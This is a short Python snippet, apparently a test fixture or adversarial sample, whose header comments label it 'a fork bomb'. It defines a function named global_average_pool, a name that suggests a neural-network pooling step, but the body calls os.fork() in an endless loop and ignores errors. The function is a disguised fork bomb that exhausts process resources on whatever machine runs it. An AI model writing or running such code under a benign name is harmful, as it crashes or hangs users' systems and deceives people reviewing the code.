# tries: a fork bomb
# worth: global_average_pool 0 any
# copies: 3
# %% global_average_pool
def global_average_pool(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
